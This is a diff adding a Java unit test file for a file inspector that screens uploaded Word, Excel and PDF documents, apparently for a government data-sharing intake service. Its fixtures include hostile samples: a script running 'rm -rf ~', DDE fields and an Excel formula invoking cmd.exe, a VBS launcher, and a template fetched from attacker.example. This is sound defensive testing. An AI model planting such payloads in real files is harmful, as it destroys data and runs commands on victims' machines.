@@ -1,0 +1,315 @@
+package uk.gov.education.datasharing.intake.inspect;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Map;
+
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import uk.gov.education.datasharing.intake.Documents;
+import uk.gov.education.datasharing.intake.intake.EncryptedSpool;
+import uk.gov.education.datasharing.intake.model.Defect;
+import uk.gov.education.datasharing.intake.model.DocumentKind;
+import uk.gov.education.datasharing.intake.model.FileCheck.Scan;
+import uk.gov.education.datasharing.intake.model.FileCheck.Verdict;
+import uk.gov.education.datasharing.intake.model.ReceivedFile;
+
+class FileInspectorTest {
+
+    static final FileInspector.Limits LIMITS = new FileInspector.Limits(32 << 20, 10_000, 256L << 20, 200_000);
+
+    @TempDir
+    Path dir;
+
+    FilePolicy.Judgement judge(String name, String declaredType, byte[] content) throws IOException {
+        return judge(new FileInspector(LIMITS, Scanner.NONE), name, declaredType, content);
+    }
+
+    FilePolicy.Judgement judge(FileInspector inspector, String name, String declaredType, byte[] content) throws IOException {
+        try (EncryptedSpool spool = EncryptedSpool.write(dir, "file-", out -> out.write(content), Long.MAX_VALUE)) {
+            ContentInspection inspection = inspector.inspect(spool);
+            ReceivedFile file = new ReceivedFile(1, "1.2", name, name, declaredType, content.length, spool.sha256());
+            return new FilePolicy().judge(file, inspection);
+        }
+    }
+
+    FilePolicy.Judgement judgeIn(Path spoolDir, String name, byte[] content) throws IOException {
+        this.dir = spoolDir;
+        return judge(name, "application/octet-stream", content);
+    }
+
+    static List<String> codes(FilePolicy.Judgement j) {
+        return j.findings().stream().map(Defect::code).toList();
+    }
+
+    @Test
+    void plainWordWorkbookAndPdfAreAcceptedWithTheirTypesFromContent() throws IOException {
+        var docx = judge("form.docx", "application/octet-stream", Documents.docx("Hello"));
+        var xlsx = judge("tables.xlsx", "application/vnd.ms-excel", Documents.xlsx(Map.of("Sheet1", new String[][] {{"a"}})));
+        var pdf = judge("evidence.pdf", "application/pdf", Documents.pdf("A certificate"));
+        assertThat(docx.check().detectedType()).isEqualTo(FileTypes.DOCX);
+        assertThat(xlsx.check().detectedType()).isEqualTo(FileTypes.XLSX);
+        assertThat(pdf.check().detectedType()).isEqualTo(FileTypes.PDF);
+        for (var j : List.of(docx, xlsx, pdf)) {
+            assertThat(j.check().verdict()).isEqualTo(Verdict.ACCEPTED);
+            assertThat(j.findings()).isEmpty();
+        }
+    }
+
+    @Test
+    void anUnscannedFileIsNeverRecordedClean() throws IOException {
+        assertThat(judge("form.docx", "", Documents.docx("Hello")).check().scan()).isEqualTo(Scan.NOT_SCANNED);
+    }
+
+    @Test
+    void aScannerThatFindsAThreatMakesTheFileUnsafe() throws IOException {
+        Scanner eicar = (in, size) -> new String(in.readAllBytes(), StandardCharsets.ISO_8859_1).contains("EICAR-STANDARD-ANTIVIRUS-TEST-FILE")
+                ? Scanner.Result.infected("Eicar-Test-Signature") : Scanner.Result.clean();
+        var infected = judge(new FileInspector(LIMITS, eicar), "note.txt", "text/plain",
+                "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*".getBytes(StandardCharsets.US_ASCII));
+        var clean = judge(new FileInspector(LIMITS, eicar), "note.pdf", "application/pdf", Documents.pdf("nothing"));
+        assertThat(infected.check().verdict()).isEqualTo(Verdict.UNSAFE);
+        assertThat(codes(infected)).contains(InspectionFindings.INFECTED);
+        assertThat(infected.findings().get(0).found()).isEqualTo("Eicar-Test-Signature");
+        assertThat(clean.check().scan()).isEqualTo(Scan.CLEAN);
+        assertThat(clean.check().verdict()).isEqualTo(Verdict.ACCEPTED);
+    }
+
+    @Test
+    void aScannerThatFailsLeavesTheFileNotScanned() throws IOException {
+        Scanner broken = (in, size) -> {
+            throw new IOException("connection refused");
+        };
+        assertThat(judge(new FileInspector(LIMITS, broken), "a.pdf", "", Documents.pdf("x")).check().scan()).isEqualTo(Scan.NOT_SCANNED);
+    }
+
+    @Test
+    void anExecutableIsUnsafeWhateverItIsCalled() throws IOException {
+        for (String name : List.of("report.pdf", "form.docx", "setup.exe", "noextension")) {
+            var j = judge(name, "application/pdf", Documents.exe());
+            assertThat(j.check().verdict()).as(name).isEqualTo(Verdict.UNSAFE);
+            assertThat(codes(j)).as(name).containsExactly(InspectionFindings.PROGRAM);
+        }
+    }
+
+    @Test
+    void scriptsAreUnsafeByContentOrByAName() throws IOException {
+        var shebang = judge("notes.txt", "text/plain", "#!/bin/sh\nrm -rf ~\n".getBytes(StandardCharsets.US_ASCII));
+        var vbs = judge("invoice.vbs", "text/plain", "CreateObject(\"WScript.Shell\").Run \"calc\"".getBytes(StandardCharsets.US_ASCII));
+        var lnk = judge("form.docx.lnk", "application/octet-stream", new byte[] {0x4c, 0, 0, 0, 1, 0x14, 2, 0});
+        assertThat(List.of(shebang, vbs, lnk)).allSatisfy(j -> {
+            assertThat(j.check().verdict()).isEqualTo(Verdict.UNSAFE);
+            assertThat(codes(j)).contains(InspectionFindings.PROGRAM);
+        });
+    }
+
+    @Test
+    void aMacroEnabledDocumentIsUnsafeEvenWhenRenamedDocx() throws IOException {
+        var j = judge("application-form.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", Documents.docm());
+        assertThat(j.check().verdict()).isEqualTo(Verdict.UNSAFE);
+        assertThat(codes(j)).contains(InspectionFindings.MACROS);
+        assertThat(j.check().detectedType()).contains("macroenabled");
+    }
+
+    @Test
+    void aVbaPartIsFoundEvenWhenTheContentTypesHideIt() throws IOException {
+        byte[] sneaky = Documents.edit(Documents.docx("x"), Map.of("word/vbaProject.bin", Documents.ole("VBA/")));
+        var j = judge("form.docx", "", sneaky);
+        assertThat(codes(j)).contains(InspectionFindings.MACROS);
+    }
+
+    @Test
+    void embeddedObjectsAreUnsafe() throws IOException {
+        byte[] embedded = Documents.edit(Documents.docx("see the attached object"),
+                Map.of("word/embeddings/oleObject1.bin", Documents.ole("\u0001Ole10Native")));
+        var j = judge("form.docx", "", embedded);
+        assertThat(codes(j)).containsExactly(InspectionFindings.EMBEDDED_OBJECTS);
+    }
+
+    @Test
+    void anExternalTemplateOrLinkedPictureIsRemoteContent() throws IOException {
+        var template = judge("form.docx", "", Documents.docxWith("word/_rels/settings.xml.rels",
+                Documents.relationships("attachedTemplate", "http://attacker.example/t.dotm", true)));
+        var picture = judge("form.docx", "", Documents.docxWith("word/_rels/document.xml.rels",
+                Documents.relationships("image", "https://tracker.example/pixel.png", true)));
+        var hyperlink = judge("form.docx", "", Documents.docxWith("word/_rels/document.xml.rels",
+                Documents.relationships("hyperlink", "https://www.gov.uk/", true)));
+        assertThat(codes(template)).containsExactly(InspectionFindings.REMOTE_CONTENT);
+        assertThat(template.findings().get(0).found()).isEqualTo("a template loaded from elsewhere");
+        assertThat(codes(picture)).containsExactly(InspectionFindings.REMOTE_CONTENT);
+        assertThat(hyperlink.check().verdict()).isEqualTo(Verdict.ACCEPTED);
+    }
+
+    @Test
+    void ddeFieldsInWordAndDdeFormulasInExcelAreUnsafe() throws IOException {
+        var simple = judge("form.docx", "", Documents.docxWithBody(
+                "<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \"/></w:p>"));
+        var split = judge("form.docx", "", Documents.docxWithBody(
+                "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>"
+                        + "<w:r><w:instrText>E cmd \"/c calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"));
+        byte[] workbook = Documents.xlsx(Map.of("Sheet1", new String[][] {{"a"}}));
+        String sheet = new String(Documents.read(workbook, "xl/worksheets/sheet1.xml"), StandardCharsets.UTF_8)
+                .replace("</sheetData>", "<row r=\"5\"><c r=\"A5\"><f>cmd|' /C calc'!A0</f></c></row></sheetData>");
+        var formula = judge("tables.xlsx", "", Documents.edit(workbook, Map.of("xl/worksheets/sheet1.xml", sheet.getBytes(StandardCharsets.UTF_8))));
+        var pageField = judge("form.docx", "", Documents.docxWithBody("<w:p><w:fldSimple w:instr=\" PAGE \"/></w:p>"));
+        assertThat(codes(simple)).containsExactly(InspectionFindings.DDE);
+        assertThat(codes(split)).containsExactly(InspectionFindings.DDE);
+        assertThat(codes(formula)).containsExactly(InspectionFindings.DDE);
+        assertThat(pageField.check().verdict()).isEqualTo(Verdict.ACCEPTED);
+    }
+
+    @Test
+    void passwordProtectedOfficeFilesAndPdfsAreUnsafeBecauseTheyCannotBeChecked() throws IOException {
+        var docx = judge("form.docx", "", Documents.encryptedDocx());
+        var pdf = judge("evidence.pdf", "application/pdf", Documents.pdfWithUserPassword());
+        assertThat(codes(docx)).containsExactly(InspectionFindings.ENCRYPTED);
+        assertThat(codes(pdf)).containsExactly(InspectionFindings.ENCRYPTED);
+    }
+
+    @Test
+    void pdfJavaScriptAndLaunchActionsAreUnsafe() throws IOException {
+        assertThat(codes(judge("a.pdf", "", Documents.pdfWithJavaScript()))).containsExactly(InspectionFindings.PDF_ACTIVE);
+        assertThat(codes(judge("a.pdf", "", Documents.pdfWithLaunchAction()))).containsExactly(InspectionFindings.PDF_ACTIVE);
+    }
+
+    @Test
+    void legacyAndOtherFormatsAreAskedForAgainInTheRightFormat() throws IOException {
+        var xls = judge("tables.xls", "application/vnd.ms-excel", Documents.xls());
+        var doc = judge("form.doc", "application/msword", Documents.ole("WordDocument", "1Table"));
+        var txt = judge("notes.txt", "text/plain", "just text".getBytes(StandardCharsets.US_ASCII));
+        assertThat(codes(xls)).containsExactly(InspectionFindings.SEND_AS_XLSX);
+        assertThat(codes(doc)).containsExactly(InspectionFindings.SEND_AS_DOCX);
+        assertThat(codes(txt)).containsExactly(InspectionFindings.FORMAT_NOT_ACCEPTED);
+        assertThat(List.of(xls, doc, txt)).allSatisfy(j -> assertThat(j.check().verdict()).isEqualTo(Verdict.NOT_ACCEPTED));
+        assertThat(xls.findings().get(0).fix()).contains(".xlsx");
+    }
+
+    @Test
+    void legacyFilesWithMacrosAreUnsafeRatherThanJustTheWrongFormat() throws IOException {
+        var j = judge("tables.xls", "application/vnd.ms-excel", Documents.ole("Workbook", "_VBA_PROJECT_CUR/"));
+        assertThat(codes(j)).containsExactly(InspectionFindings.MACROS);
+    }
+
+    @Test
+    void imagesAreAcceptedAsEvidence() throws IOException {
+        byte[] png = java.util.Base64.getDecoder().decode(
+                "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==");
+        var j = judge("certificate.png", "image/png", png);
+        assertThat(j.check().verdict()).isEqualTo(Verdict.ACCEPTED);
+        assertThat(j.check().detectedType()).isEqualTo("image/png");
+    }
+
+    @Test
+    void aNameOrDeclaredTypeThatDisagreesWithTheContentIsAWarning() throws IOException {
+        var named = judge("evidence.pdf", "application/pdf", Documents.docx("actually Word"));
+        var declared = judge("form", "application/pdf", Documents.docx("actually Word"));
+        assertThat(named.check().verdict()).isEqualTo(Verdict.ACCEPTED);
+        assertThat(named.findings()).singleElement().satisfies(d -> {
+            assertThat(d.code()).isEqualTo(InspectionFindings.TYPE_MISMATCH);
+            assertThat(d.severity()).isEqualTo(Defect.Severity.WARNING);
+            assertThat(d.found()).isEqualTo("named .pdf, but it is a Word document (.docx)");
+        });
+        assertThat(codes(declared)).containsExactly(InspectionFindings.TYPE_MISMATCH);
+    }
+
+    @Test
+    void aDamagedDocumentIsNotAcceptedAndSaysSo() throws IOException {
+        byte[] pdf = Documents.pdf("x");
+        byte[] truncated = java.util.Arrays.copyOf(pdf, 20);
+        var j = judge("a.pdf", "application/pdf", truncated);
+        assertThat(codes(j)).containsExactly(InspectionFindings.DAMAGED);
+    }
+
+    @Test
+    void documentsAreRecognisedByTemplatePropertyTagsStructureAndHeadings() throws IOException {
+        var byProperty = judge("x.docx", "", Documents.docx(Map.of(DocumentClassifier.KIND_PROPERTY, "security-questionnaire",
+                DocumentClassifier.VERSION_PROPERTY, "1"), "anything"));
+        var byTags = judge("x.docx", "", Documents.docxWithBody(Documents.contentControl("applicant.name", "A")
+                + Documents.contentControl("applicant.email", "a@example.org") + Documents.contentControl("project.title", "T")));
+        var byStructure = judge("x.xlsx", "", Documents.npdWorkbook("NPD Alias"));
+        var byHeadings = judge("x.docx", "", Documents.docx("Application for DfE personal data", "1. Applicant", "Name: A",
+                "2. Project", "3. Lawful basis", "4. Data", "5. Access", "6. Declaration"));
+        var questionnaire = judge("x.docx", "", Documents.docx("Information security questionnaire", "Question 1"));
+        var moj = judge("x.pdf", "", Documents.pdf("Ministry of Justice", "Data First application form"));
+        var dsa = judge("x.pdf", "", Documents.pdf("Data sharing agreement between A and B"));
+        var bpss = judge("x.pdf", "", Documents.pdf("Baseline Personnel Security Standard (BPSS) certificate"));
+        var byName = judge("BPSS checks.pdf", "", Documents.pdf("Certificate"));
+        var other = judge("x.pdf", "", Documents.pdf("Some letter"));
+
+        assertThat(byProperty.check().kind()).isEqualTo(DocumentKind.SECURITY_QUESTIONNAIRE);
+        assertThat(byProperty.check().recognisedBy()).isEqualTo("template version 1");
+        assertThat(byTags.check().kind()).isEqualTo(DocumentKind.APPLICATION_FORM);
+        assertThat(byTags.check().recognisedBy()).isEqualTo("form fields");
+        assertThat(byStructure.check().kind()).isEqualTo(DocumentKind.DATA_TABLES_NPD);
+        assertThat(byStructure.check().recognisedBy()).isEqualTo("data-table layout");
+        assertThat(byHeadings.check().kind()).isEqualTo(DocumentKind.APPLICATION_FORM);
+        assertThat(byHeadings.check().recognisedBy()).isEqualTo("headings");
+        assertThat(questionnaire.check().kind()).isEqualTo(DocumentKind.SECURITY_QUESTIONNAIRE);
+        assertThat(moj.check().kind()).isEqualTo(DocumentKind.MOJ_APPLICATION_FORM);
+        assertThat(dsa.check().kind()).isEqualTo(DocumentKind.DATA_SHARING_AGREEMENT);
+        assertThat(bpss.check().kind()).isEqualTo(DocumentKind.BACKGROUND_CHECK_EVIDENCE);
+        assertThat(byName.check().kind()).isEqualTo(DocumentKind.BACKGROUND_CHECK_EVIDENCE);
+        assertThat(byName.check().recognisedBy()).isEqualTo("file name only");
+        assertThat(other.check().kind()).isEqualTo(DocumentKind.OTHER);
+    }
+
+    @Test
+    void theFileNameCannotOverrideWhatTheContentSays() throws IOException {
+        var j = judge("NPD data tables.xlsx", "", Documents.docx("Information security questionnaire"));
+        assertThat(j.check().kind()).isEqualTo(DocumentKind.SECURITY_QUESTIONNAIRE);
+    }
+
+    @Test
+    void dataTablesFromOtherSourcesAreToldApartByTheirAliasHeader() throws IOException {
+        assertThat(judge("x.xlsx", "", Documents.npdWorkbook("ILRAlias")).check().kind()).isEqualTo(DocumentKind.DATA_TABLES_ILR);
+        assertThat(judge("x.xlsx", "", Documents.npdWorkbook("SWC Alias")).check().kind()).isEqualTo(DocumentKind.DATA_TABLES_SWC);
+    }
+
+    @Test
+    void aWorkbookThatOnlyMentionsAnAliasWithoutTheRequestColumnIsNotDataTables() throws IOException {
+        var j = judge("x.xlsx", "", Documents.xlsx(Map.of("S", new String[][] {{"NPDAlias", "Description"}})));
+        assertThat(j.check().kind()).isEqualTo(DocumentKind.OTHER);
+    }
+
+    @Test
+    void anOfficeFileWithMoreEntriesThanTheLimitIsRefusedWithoutReadingItsDirectory() throws IOException {
+        Map<String, byte[]> entries = new java.util.LinkedHashMap<>();
+        for (int i = 0; i < 2_001; i++) {
+            entries.put("word/media/" + i + ".bin", new byte[0]);
+        }
+        byte[] crowded = Documents.edit(Documents.docx("x"), entries);
+        var limited = new FileInspector(new FileInspector.Limits(32 << 20, 2_000, 256L << 20, 1_000), Scanner.NONE);
+        var j = judge(limited, "form.docx", "", crowded);
+        assertThat(codes(j)).containsExactly(InspectionFindings.TOO_COMPLEX);
+        assertThat(j.check().verdict()).isEqualTo(Verdict.UNSAFE);
+    }
+
+    @Test
+    void anOfficeFileThatInflatesBeyondTheLimitIsACompressionBomb() throws IOException {
+        String padding = " ".repeat(3 << 20);
+        byte[] bomb = Documents.docxWithBody("<w:p><w:r><w:t>x</w:t></w:r></w:p>" + padding);
+        var limited = new FileInspector(new FileInspector.Limits(32 << 20, 2_000, 1L << 20, 1_000), Scanner.NONE);
+        var j = judge(limited, "form.docx", "", bomb);
+        assertThat(bomb.length).isLessThan(64 * 1024);
+        assertThat(codes(j)).containsExactly(InspectionFindings.TOO_COMPLEX);
+    }
+
+    @Test
+    void deeplyNestedXmlIsReportedAsDamagedWithoutExhaustingTheStack() throws IOException {
+        String deep = "<w:p>".repeat(50_000) + "</w:p>".repeat(50_000);
+        var j = judge("form.docx", "", Documents.docxWithBody(deep));
+        assertThat(codes(j)).containsExactly(InspectionFindings.DAMAGED);
+    }
+
+    @Test
+    void aPdfWithMoreObjectsThanTheLimitIsRefused() throws IOException {
+        var limited = new FileInspector(new FileInspector.Limits(32 << 20, 2_000, 1L << 20, 3), Scanner.NONE);
+        var j = judge(limited, "a.pdf", "", Documents.pdf("one", "two"));
+        assertThat(codes(j)).containsExactly(InspectionFindings.TOO_COMPLEX);
+    }
+}
